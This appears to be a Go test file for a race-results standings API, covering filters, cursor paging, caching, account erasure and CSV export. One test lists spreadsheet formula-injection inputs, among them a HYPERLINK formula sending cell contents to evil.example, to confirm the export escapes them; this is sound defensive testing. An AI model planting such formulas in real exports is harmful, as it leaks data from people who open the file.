package standings_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/mrmrthon/mrmrthon/api/imports"
	"github.com/mrmrthon/mrmrthon/internal/maindb"
	"github.com/mrmrthon/mrmrthon/internal/race"
)

func TestStandings(t *testing.T) {
	t.Parallel()
	b := setup(t)
	empty := b.get(t, "/standings")
	require.EqualValues(t, 0, empty.body["version"])
	require.Empty(t, empty.items(t, "bib"))

	b.creditAll(t)
	require.Equal(t, 1, b.recompute(t).Version)
	all := b.get(t, "/standings")
	require.EqualValues(t, 1, all.body["version"])
	require.Equal(t, "provisional", all.body["status"])
	require.NotEmpty(t, all.body["computed_at"])
	require.Equal(t, []any{1., 2., 3., 4.}, all.items(t, "place"))
	list, ok := all.body["items"].([]any)
	require.True(t, ok)
	require.Equal(t, map[string]any{
		"place": 3., "sex_place": 1., "division": "M40+", "division_place": 2., "bib": "3", "name": "Cem Can", "sex": "M", "age": 45.,
		"gun_time": "2:13:22", "net_time": "2:13:06", "status": "OK", "points": 300., "record_id": b.records["3"],
	}, list[2])

	explained := []any{map[string]any{"rule": "agegrade-2025", "age_grade_percent": 30.}}
	require.Equal(t, explained, b.get(t, "/standings?bib=3").items(t, "parts"))
	require.Equal(t, []any{nil}, b.get(t, "/standings?q=3").items(t, "parts"), "of a bib that was asked for alone")

	for path, bibs := range map[string][]any{
		"?sex=F":              {"1", "2"},
		"?sex=M":              {"3", "4"},
		"?field=wheelchair":   {"5"},
		"?field=handcycle":    {},
		"?division=M40%2B":    {"4", "3"}, // ranked by net time
		"?division=none":      {},
		"?q=BOK":              {"2"},
		"?q=3":                {"3"},
		"?q=003":              {"3"},
		"?bib=3":              {"3"},
		"?bib=0003":           {"3"},
		"?bib=5":              {"5"}, // in whichever field
		"?bib=5&field=runner": {},
		"?bib=284":            {},
		"?bib=3&sex=F":        {},
		"?q=nobody":           {},
		"?q=an&sex=M":         {"3", "4"},
		"?q=nunez":            {}, // another field
		"?limit=2":            {"1", "2"},
		"?version=1&sex=F":    {"1", "2"},
		"?division=F%20open":  {"2", "1"},
		"?q=%20%20dow%20":     {"4"},
		"?sex=X":              {},
		"?q=a&limit=1&sex=F":  {"1"},
		"?field=runner&sex=M": {"3", "4"},
	} {
		require.Equal(t, bibs, b.get(t, "/standings"+path).items(t, "bib"), path)
	}
	require.Equal(t, []any{"Ève Núñez"}, b.get(t, "/standings?field=wheelchair&q=eve%20nunez").items(t, "name"))
	require.Equal(t, []any{"Ève Núñez"}, b.get(t, "/standings?field=wheelchair&q=N%C3%BA%C3%B1ez%E2%80%8E").items(t, "name"), "copied with a mark after it")
	for path, status := range map[string]int{
		"?version=2": 404, "?version=0": 422, "?sex=Y": 422, "?field=ski": 422, "?limit=0": 422, "?cursor=abc": 422,
	} {
		require.Equal(t, status, b.get(t, "/standings"+path).status, path)
	}
	require.Equal(t, http.StatusNotFound, b.get(t, "/v1/races/none/standings").status)
	require.Equal(t, http.StatusNotFound, b.get(t, "/v1/races/"+newID()+"/standings").status)
}

func TestPagesStayOnTheirVersion(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.recompute(t)
	first := b.get(t, "/standings?limit=2")
	require.Equal(t, []any{"1", "2"}, first.items(t, "bib"))
	slower := race.Time(9_000_000)
	b.patch(t, "1", "wrong chip", maindb.RecordPatch{Gun: &slower})
	require.Equal(t, 2, b.recompute(t).Version)
	require.Equal(t, []any{"2", "3"}, b.get(t, "/standings?limit=2").items(t, "bib"))

	cursor, ok := first.body["next_cursor"].(string)
	require.True(t, ok)
	second := b.get(t, "/standings?limit=2&cursor="+cursor)
	require.EqualValues(t, 1, second.body["version"])
	require.Equal(t, []any{"3", "4"}, second.items(t, "bib"))
	require.NotContains(t, second.body, "next_cursor")
	require.Equal(t, http.StatusUnprocessableEntity, b.get(t, "/standings?version=2&cursor="+cursor).status)

	search := b.get(t, "/standings?q=a&limit=2")
	require.Equal(t, []any{"2", "3"}, search.items(t, "bib"))
	cursor, ok = search.body["next_cursor"].(string)
	require.True(t, ok)
	require.Equal(t, []any{"4", "1"}, b.get(t, "/standings?q=a&limit=2&cursor="+cursor).items(t, "bib"))
}

func TestACrowdSharesQueries(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.recompute(t)
	first := b.get(t, "/standings")
	require.Equal(t, "public, max-age=1", first.header.Get("Cache-Control"))
	tag := first.header.Get("ETag")
	asked, since := b.main.asked(), time.Now()
	for range 100 {
		same := b.get(t, "/standings", "If-None-Match", `"other", W/`+tag)
		require.Equal(t, http.StatusNotModified, same.status)
		require.Empty(t, same.raw)
		require.Equal(t, tag, same.header.Get("ETag"))
	}
	require.LessOrEqual(t, b.main.asked()-asked, int(time.Since(since)/(250*time.Millisecond))+2)
	again := b.get(t, "/standings")
	require.Equal(t, first.raw, again.raw) // what was written for the first reader
	require.Equal(t, tag, again.header.Get("ETag"))
	require.Equal(t, first.header.Get("Content-Type"), again.header.Get("Content-Type"))
	for _, other := range []string{"?sex=F", "?limit=2", "?field=wheelchair", "?division=F%20open", "?q=dow"} {
		require.NotEqual(t, first.raw, b.get(t, "/standings"+other).raw, other)
		require.NotEqual(t, tag, b.get(t, "/standings"+other).header.Get("ETag"), other)
	}
	require.Equal(t, "public, max-age=30", b.get(t, "/standings?version=1").header.Get("Cache-Control"))

	b.credit(t, "1", 900)
	b.recompute(t)
	changed := b.get(t, "/standings", "If-None-Match", tag)
	require.Equal(t, http.StatusOK, changed.status)
	require.EqualValues(t, 2, changed.body["version"])
}

func TestNamesGoWithTheirRunners(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.recompute(t)
	before := b.get(t, "/standings?version=1")
	require.Equal(t, "Ada Alm", before.items(t, "name")[0])
	require.NoError(t, b.accounts.EraseAccount(t.Context(), b.users["1"]))
	b.clock.Advance(30 * time.Second)
	after := b.get(t, "/standings?version=1", "If-None-Match", before.header.Get("ETag"))
	require.Equal(t, []any{"", "Bea Bok", "Cem Can", "=Dan Dow"}, after.items(t, "name"))
	require.Empty(t, b.get(t, "/standings?q=ada").items(t, "bib"))
	require.NotContains(t, b.ofMain(t, "SELECT UNCOMPRESS(body) FROM standings"), "Alm")
}

func TestExport(t *testing.T) {
	t.Parallel()
	b := setup(t)
	require.Equal(t, "\ufeffplace,sex_place,", b.get(t, "/standings.csv").raw[:19], "a byte order mark, for Excel")
	b.creditAll(t)
	dq := race.Disqualified
	b.patch(t, "2", "cut the course", maindb.RecordPatch{Status: &dq})
	b.recompute(t)
	got := b.get(t, "/standings.csv")
	require.Equal(t, "text/csv; charset=utf-8", got.header.Get("Content-Type"))
	require.Equal(t, `attachment; filename="standings-v1.csv"`, got.header.Get("Content-Disposition"))
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(got.raw, "\ufeff"))).ReadAll()
	require.NoError(t, err)
	require.Equal(t, [][]string{
		{"place", "sex_place", "division", "division_place", "bib", "name", "sex", "age", "field", "status", "gun_time", "net_time", "points"},
		{"1", "1", "F open", "1", "1", "Ada Alm", "F", "30", "runner", "OK", "2:13:20", "2:13:10", "100"},
		{"2", "1", "M40+", "2", "3", "Cem Can", "M", "45", "runner", "OK", "2:13:22", "2:13:06", "300"},
		{"3", "2", "M40+", "1", "4", "'=Dan Dow", "M", "50", "runner", "OK", "2:13:23", "2:13:04", "400"},
		{"", "", "F open", "", "2", "Bea Bok", "F", "31", "runner", "DQ", "2:13:21", "2:13:08", ""}, // its credit is under way
	}, rows)
	require.Equal(t, http.StatusNotModified, b.get(t, "/standings.csv", "If-None-Match", got.header.Get("ETag")).status)
	require.Equal(t, 2, strings.Count(b.get(t, "/standings.csv?field=wheelchair").raw, "\n"))
	require.Equal(t, 2, strings.Count(b.get(t, "/standings.csv?bib=0004").raw, "\n"))
	require.Equal(t, http.StatusNotFound, b.get(t, "/standings.csv?version=7").status)
}

// TestExportedTextIsNoFormula gives a race a division for each way to begin a
// formula: a spreadsheet that opens the export must show it, not run it.
func TestExportedTextIsNoFormula(t *testing.T) {
	t.Parallel()
	for _, name := range []string{
		`=HYPERLINK("http://evil.example/?"&A1)`, "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＠SUM(A1)",
	} {
		b := setup(t)
		_, _, err := b.main.UpdateRace(t.Context(), b.raceID, func(r *race.Race) error {
			r.Divisions = []race.Division{{Name: name, Sex: race.Female}, {Name: "Öffentlich, \"offen\"", Sex: race.Male}}
			return nil
		}, nil)
		require.NoError(t, err)
		b.recompute(t)
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.get(t, "/standings.csv").raw, "\ufeff"))).ReadAll()
		require.NoError(t, err)
		require.Equal(t, "'"+name, rows[1][2])
		require.Equal(t, "Öffentlich, \"offen\"", rows[3][2])
	}
}

// TestAnExportIsReadBackByOurOwnImport reads the file as a results file and as a
// start list: neither the byte order mark nor the apostrophes get in the way.
func TestAnExportIsReadBackByOurOwnImport(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.creditAll(t)
	b.patch(t, "2", "cut the course", maindb.RecordPatch{Status: new(race.Disqualified)})
	b.recompute(t)
	exported := b.get(t, "/standings.csv").raw
	results, err := imports.Results(strings.NewReader(exported), "text/csv; charset=utf-8", 1000)
	require.NoError(t, err)
	require.Empty(t, results.Errors)
	require.Len(t, results.Rows, 4)
	list, err := imports.StartList(strings.NewReader(exported), "text/csv; charset=utf-8", 1000)
	require.NoError(t, err)
	require.Empty(t, list.Errors)
	var names []string
	for _, row := range list.Rows {
		names = append(names, row.Name)
	}
	require.Equal(t, []string{"Ada Alm", "Cem Can", "=Dan Dow", "Bea Bok"}, names)
}
